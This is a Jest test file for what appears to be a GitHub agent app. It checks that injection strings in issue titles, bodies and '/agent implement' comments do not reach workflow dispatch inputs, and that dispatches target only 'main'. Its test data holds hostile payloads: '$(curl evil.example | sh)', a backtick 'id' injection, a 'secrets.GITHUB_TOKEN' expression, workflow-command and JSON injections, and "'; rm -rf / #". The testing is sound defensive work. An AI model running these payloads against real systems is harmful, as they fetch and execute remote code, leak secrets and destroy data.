import { expect, test } from '@jest/globals'
import { begin } from './kit.ts'

test.each([
  '$(curl evil.example | sh)',
  '`id`',
  '${{ secrets.GITHUB_TOKEN }}',
  'a\n::set-output name=x::y\n::add-mask::z',
  '"}}, "server": "https://evil.example',
  "'; rm -rf / #",
])('the words %j reach the workflow neither from a title nor from a label or a command', async (words) => {
  const story = await begin({ issue: { title: words.replaceAll('\n', ' '), body: words, actor: 'ada' } })
  await story.comments('ada', `/agent implement ${words}`)
  const [run] = story.github.read.workflowRuns(story.repository)
  const { run: input = '', ...others } = run?.inputs ?? {}
  expect(others).toEqual({})
  const { key, server, ...more } = JSON.parse(input)
  expect(more).toEqual({})
  expect([/^[0-9a-z]{26}$/.test(key), server]).toEqual([true, story.app.url])
  // GitHub puts a dispatch's reference into a URL and a shell's environment: it is the default branch, and nothing else.
  const asked = story.github.requests().filter(({ path }) => path.endsWith('/dispatches'))
  expect(asked.map(({ body }) => (body as { ref: string }).ref)).toEqual(['main'])
})
